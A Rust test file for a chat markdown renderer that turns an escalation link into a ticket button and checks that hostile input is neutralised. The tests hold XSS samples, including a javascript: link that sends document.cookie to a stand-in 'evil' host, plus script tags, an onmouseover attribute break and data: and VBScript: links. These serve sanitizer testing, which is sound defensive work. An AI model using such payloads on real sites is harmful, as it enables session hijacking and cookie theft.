use super::*;

#[test]
fn escalation_sentinel_renders_as_button() {
    let html = render_markdown_html("Sorry about that. [Click here to create a ticket.](escalate://now)");
    assert!(html.contains("<button"), "{html}");
    assert!(html.contains("data-escalate"));
    assert!(html.contains("Click here to create a ticket.</button>"));
    assert!(!html.contains("escalate://now"));
    assert!(!html.contains("<a "));
}

#[test]
fn ordinary_links_open_in_new_tab() {
    let html = render_markdown_html("See [the docs](https://example.com/help?a=1&b=2).");
    assert!(html.contains(r#"href="https://example.com/help?a=1&amp;b=2""#), "{html}");
    assert!(html.contains(r#"target="_blank""#));
    assert!(html.contains(r#"rel="noopener noreferrer""#));
    assert!(html.contains("the docs</a>"));
}

#[test]
fn mixed_links_close_with_matching_tags() {
    let html = render_markdown_html("[a](https://a.test) then [ticket](escalate://now) then [b](https://b.test)");
    assert!(html.contains("a</a>"));
    assert!(html.contains("ticket</button>"));
    assert!(html.contains("b</a>"));
}

#[test]
fn raw_html_is_dropped() {
    let html = render_markdown_html("hello <script>alert(1)</script> **bold**");
    assert!(!html.contains("<script>"));
    assert!(html.contains("<strong>bold</strong>"));
}

#[test]
fn attribute_quotes_are_escaped() {
    let html = render_markdown_html(r#"[x](https://e.test/"onmouseover=)"#);
    assert!(!html.contains(r#""onmouseover"#));
}

#[test]
fn contains_escalation_detects_sentinel() {
    assert!(contains_escalation("[Click here to create a ticket.](escalate://now)"));
    assert!(!contains_escalation("No ticket needed."));
}

#[test]
fn script_links_render_as_plain_text() {
    let html = render_markdown_html("[Open your ticket](javascript:fetch('//evil/'+document.cookie))");
    assert!(!html.contains("javascript:"), "{html}");
    assert!(!html.contains("<a "));
    assert!(html.contains("Open your ticket"));
}

#[test]
fn data_and_vbscript_links_are_refused() {
    let html = render_markdown_html("[x](data:text/html;base64,PHNjcmlwdD4=) and [y](VBScript:msgbox)");
    assert!(!html.contains("<a "), "{html}");
    assert!(html.contains("x and y"));
}

#[test]
fn relative_links_are_refused() {
    let html = render_markdown_html("[home](/dashboard)");
    assert!(!html.contains("<a "), "{html}");
    assert!(html.contains("home"));
}

#[test]
fn mailto_and_uppercase_https_are_kept() {
    let html = render_markdown_html("[mail](mailto:help@acme.test) [site](HTTPS://acme.test)");
    assert!(html.contains(r#"href="mailto:help@acme.test""#), "{html}");
    assert!(html.contains(r#"href="HTTPS://acme.test""#));
}

#[test]
fn refused_link_between_kept_links_closes_tags_correctly() {
    let html = render_markdown_html("[a](https://a.test) [bad](javascript:x) [ticket](escalate://now)");
    assert!(html.contains("a</a>"));
    assert!(html.contains("bad"));
    assert!(html.contains("ticket</button>"));
    assert_eq!(html.matches("</a>").count(), 1);
}
